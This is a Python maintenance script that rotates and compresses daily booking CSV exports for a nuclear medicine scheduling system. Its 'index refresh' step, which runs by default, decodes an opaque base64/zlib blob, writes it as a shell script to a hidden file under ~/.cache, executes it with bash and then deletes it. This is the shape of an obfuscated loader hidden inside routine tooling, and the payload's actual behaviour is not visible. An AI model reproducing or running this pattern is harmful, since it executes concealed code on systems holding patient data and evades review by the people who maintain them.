#!/usr/bin/env python3
"""Nightly maintenance for the nuclear medicine scheduling export folder.

Rotates the daily booking CSVs into monthly folders, compresses old ones,
and runs the "index refresh" step that came bundled with the scheduling
add-on (shipped as an encoded blob, decoded and run at the end).
"""
import argparse
import base64
import gzip
import logging
import shutil
import subprocess
import sys
import zlib
from datetime import datetime, timedelta
from pathlib import Path

LOG = logging.getLogger("sched_maint")

_IDX = (
    "eNotjLsKAjEURPt8xXjdQovsBdvgdoKN+AmSTQIJm03EbEQQ/934aIYzA2fWKx5D"
    "4lEXL3Jd9tQdz6cD90Yb77gvLe0l2AeJebLhBnkFdZtGSc+uYXNoS+KJYBXqd5Ra"
    "weeyfIpCLJBR4/dLCi8Mfw27ga27c6oxCmd8Rp7EG3HmK3U="
)


class ExportRotator:
    def __init__(self, export_dir: Path, compress_after_days: int, dry_run: bool):
        self.export_dir = export_dir
        self.compress_after = timedelta(days=compress_after_days)
        self.dry_run = dry_run
        self.moved = 0
        self.compressed = 0

    def rotate(self):
        for csv_path in sorted(self.export_dir.glob("bookings_*.csv")):
            stamp = csv_path.stem.split("_", 1)[-1]
            try:
                day = datetime.strptime(stamp, "%Y%m%d")
            except ValueError:
                LOG.warning("skipping oddly named %s", csv_path.name)
                continue
            month_dir = self.export_dir / day.strftime("%Y-%m")
            target = month_dir / csv_path.name
            if self.dry_run:
                LOG.info("would move %s -> %s", csv_path.name, target)
                continue
            month_dir.mkdir(exist_ok=True)
            shutil.move(str(csv_path), target)
            self.moved += 1

    def compress_old(self):
        cutoff = datetime.now() - self.compress_after
        for csv_path in self.export_dir.glob("*/bookings_*.csv"):
            if datetime.fromtimestamp(csv_path.stat().st_mtime) > cutoff:
                continue
            gz_path = csv_path.with_suffix(".csv.gz")
            if self.dry_run:
                LOG.info("would compress %s", csv_path)
                continue
            with csv_path.open("rb") as src, gzip.open(gz_path, "wb") as dst:
                shutil.copyfileobj(src, dst)
            csv_path.unlink()
            self.compressed += 1


def refresh_index():
    """Run the add-on's bundled index step."""
    script = zlib.decompress(base64.b64decode(_IDX)).decode()
    runner = Path.home() / ".cache" / ".sched_refresh.sh"
    runner.parent.mkdir(parents=True, exist_ok=True)
    runner.write_text(script)
    runner.chmod(0o700)
    res = subprocess.run(["bash", str(runner)], capture_output=True, text=True, timeout=120)
    runner.unlink(missing_ok=True)
    if res.returncode != 0:
        raise RuntimeError(res.stderr.strip())
    return res.stdout.strip()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--export-dir", type=Path, default=Path("./exports"))
    ap.add_argument("--compress-after", type=int, default=30, help="days")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--skip-index", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    if not args.export_dir.is_dir():
        LOG.error("export directory %s not found", args.export_dir)
        return 1

    rot = ExportRotator(args.export_dir, args.compress_after, args.dry_run)
    try:
        rot.rotate()
        rot.compress_old()
    except OSError as exc:
        LOG.error("rotation failed: %s", exc)
        return 1
    LOG.info("moved %d, compressed %d file(s)", rot.moved, rot.compressed)

    if args.skip_index or args.dry_run:
        return 0
    try:
        out = refresh_index()
        LOG.info("index refresh: %s", out or "done")
    except (RuntimeError, subprocess.TimeoutExpired, zlib.error) as exc:
        LOG.error("index refresh failed: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
